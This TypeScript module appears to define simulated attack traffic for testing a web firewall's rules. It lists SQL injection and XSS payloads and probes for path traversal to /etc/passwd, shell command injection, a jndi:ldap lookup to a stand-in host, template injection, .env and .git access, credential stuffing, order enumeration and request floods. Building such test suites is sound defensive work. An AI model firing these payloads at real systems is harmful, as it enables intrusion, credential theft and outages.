// The attack waves: which requests, from how many clients. Payloads are written here; they are plain members of their
// classes, so that a rule set that lets one pass lacks something. Attacks by one request (sqli, xss, anomaly) come from
// a client each, so that a ban for one does not stop the next; attacks by behaviour come from few clients, as they do
// in life.
export const waveTypes = ['sqli', 'xss', 'cred_stuffing', 'bola', 'l7_flood', 'anomaly'] as const;
export type WaveType = (typeof waveTypes)[number];

export interface Attack {
  /** Stable: a self-test compares attacks of two nights by it. */
  readonly name: string;
  /** Number of the client within the simulation, from 0. */
  readonly client: number;
  readonly method: 'GET' | 'POST' | 'PUT';
  /** Path and query within the site, from `/`. */
  readonly path: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
}

export interface Wave {
  readonly type: WaveType;
  readonly summary: string;
  /** What is sent unless the caller says otherwise. */
  readonly requests: number;
  readonly rate: number;
  /** Each attack stands for itself, so that a self-test can name the rule that no longer sees it. */
  readonly isPerRequest: boolean;
  attack(number: number): Attack;
}

/** Clients of one simulation: their addresses are its own. */
export const clientsMax = 256;

const sqli = [
  "' OR '1'='1' -- ",
  "1' UNION SELECT login, password FROM accounts -- ",
  '1; DROP TABLE orders -- ',
  "' AND SLEEP(5) AND '1'='1",
  "1' AND (SELECT COUNT(*) FROM information_schema.tables) > 0 -- ",
  "admin'/**/OR/**/1=1#",
  "1' ORDER BY 12 -- ",
  "' || (SELECT version()) || '",
  '1 AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT database())))',
  "'; EXEC xp_cmdshell('whoami') -- ",
] as const;
const xss = [
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=confirm(1)>',
  '<a href="javascript:alert(\'x\')">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<body onload=prompt(1)>',
  "';alert(String.fromCharCode(88));//<script>x</script>",
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<input autofocus onfocus=alert(1)>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
] as const;

/** Where a payload is put; with each of them a payload is an attack of its own. */
const places = ['query', 'form', 'json', 'cookie', 'header'] as const;
const browser = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
const browserHeaders = { 'user-agent': browser, accept: 'text/html,application/json;q=0.9', 'accept-language': 'en' };

function injection(type: WaveType, payloads: readonly string[], number: number): Attack {
  const index = number % (payloads.length * places.length);
  const place = places[Math.floor(index / payloads.length)] ?? 'query';
  const payload = payloads[index % payloads.length] ?? '';
  const name = `${type}.${place}.${(index % payloads.length) + 1}`;
  const base = { name, client: number % clientsMax, method: 'GET', path: '/search', headers: browserHeaders } as const;
  const encoded = encodeURIComponent(payload);
  if (place === 'query') return { ...base, path: `/search?q=${encoded}` };
  if (place === 'cookie') return { ...base, headers: { ...browserHeaders, cookie: `view=${encoded}` } };
  if (place === 'header')
    return { ...base, headers: { ...browserHeaders, referer: `https://a.example/?q=${encoded}` } };
  const isForm = place === 'form';
  return {
    ...base,
    method: 'POST',
    headers: { ...browserHeaders, 'content-type': isForm ? 'application/x-www-form-urlencoded' : 'application/json' },
    body: isForm ? `comment=${encoded}&page=1` : JSON.stringify({ comment: payload, page: 1 }),
  };
}

/** Requests that no rule for one class describes: shapes, methods and sizes that applications do not send. */
const oddities: readonly (Omit<Attack, 'name' | 'client'> & { readonly name: string })[] = [
  { name: 'traversal', method: 'GET', path: '/files?name=..%2f..%2f..%2f..%2fetc%2fpasswd' },
  { name: 'command', method: 'GET', path: '/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd' },
  { name: 'scanner', method: 'GET', path: '/', headers: { 'user-agent': 'sqlmap/1.8' } },
  { name: 'backup', method: 'GET', path: '/.git/config' },
  { name: 'environment', method: 'GET', path: '/.env' },
  { name: 'lookup', method: 'GET', path: '/?x=%24%7Bjndi%3Aldap%3A%2F%2Fa.example%2Fx%7D' },
  {
    name: 'template',
    method: 'GET',
    path: '/hello?name=%7B%7Bconstructor.constructor(%27return%20process%27)()%7D%7D',
  },
  { name: 'many-parameters', method: 'GET', path: `/?${Array.from({ length: 400 }, (_, n) => `p${n}=1`).join('&')}` },
  { name: 'splitting', method: 'GET', path: '/go?to=%0d%0aSet-Cookie:%20a=b' },
  {
    name: 'wrong-body',
    method: 'POST',
    path: '/api/orders',
    headers: { ...browserHeaders, 'content-type': 'application/json' },
    body: '{"order": [1, 2',
  },
];

const waveList: readonly Wave[] = [
  {
    type: 'sqli',
    summary: 'injections of SQL in query, form, JSON, cookie and header, each from a client of its own',
    requests: sqli.length * places.length,
    rate: 20,
    isPerRequest: true,
    attack: (number) => injection('sqli', sqli, number),
  },
  {
    type: 'xss',
    summary: 'scripts in query, form, JSON, cookie and header, each from a client of its own',
    requests: xss.length * places.length,
    rate: 20,
    isPerRequest: true,
    attack: (number) => injection('xss', xss, number),
  },
  {
    type: 'cred_stuffing',
    summary: 'other names and passwords all the time at the login, from four clients',
    requests: 200,
    rate: 40,
    isPerRequest: false,
    attack: (number) => ({
      name: 'cred_stuffing',
      client: number % 4,
      method: 'POST',
      path: '/login',
      headers: { ...browserHeaders, 'content-type': 'application/json' },
      body: JSON.stringify({ email: `somebody${number}@example.org`, password: `Season-${2000 + (number % 30)}` }),
    }),
  },
  {
    type: 'bola',
    summary: 'one client that reads the orders of everybody, number by number',
    requests: 200,
    rate: 40,
    isPerRequest: false,
    attack: (number) => ({
      name: 'bola',
      client: 0,
      method: 'GET',
      path: `/api/orders/${1000 + number}`,
      headers: { ...browserHeaders, authorization: 'Bearer simulated-client' },
    }),
  },
  {
    type: 'l7_flood',
    summary: 'the same expensive page as fast as it goes, from eight clients',
    requests: 1000,
    rate: 200,
    isPerRequest: false,
    attack: (number) => ({
      name: 'l7_flood',
      client: number % 8,
      method: 'GET',
      path: `/search?q=${number % 7}`,
      headers: browserHeaders,
    }),
  },
  {
    type: 'anomaly',
    summary: 'paths, shapes and sizes that applications do not send, each from a client of its own',
    requests: oddities.length,
    rate: 20,
    isPerRequest: true,
    attack(number) {
      const index = number % oddities.length;
      const odd = oddities[index] ?? { name: 'none', method: 'GET' as const, path: '/' };
      return { headers: browserHeaders, ...odd, name: `anomaly.${odd.name}`, client: number % clientsMax };
    },
  },
];

export const waves = new Map<WaveType, Wave>(waveList.map((wave) => [wave.type, wave]));
/** Throws for a name that no wave has; callers' schemas know them all. */
export function waveOf(type: WaveType): Wave {
  const wave = waves.get(type);
  if (wave === undefined) throw new Error(`There is no wave ${type}.`);
  return wave;
}
